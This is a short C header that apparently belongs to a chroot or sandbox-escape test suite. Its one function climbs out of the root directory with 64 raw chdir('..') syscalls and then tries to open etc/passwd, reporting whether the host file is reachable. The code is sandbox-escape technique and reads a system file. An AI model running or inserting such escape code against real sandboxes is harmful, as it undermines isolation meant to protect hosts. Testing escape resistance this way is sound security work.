/* The end of every escape from a root directory: climb, and look for a file that only the host has. */
#ifndef CLIMB_H
#define CLIMB_H

#include "payload.h"

#include <fcntl.h>

static inline void climb_and_look(void) {
  announce("climb");
  for (int i = 0; i < 64; i++) syscall(SYS_chdir, "..");
  announce("open etc/passwd");
  report("open etc/passwd", syscall(SYS_openat, AT_FDCWD, "etc/passwd", O_RDONLY, 0));
}

#endif
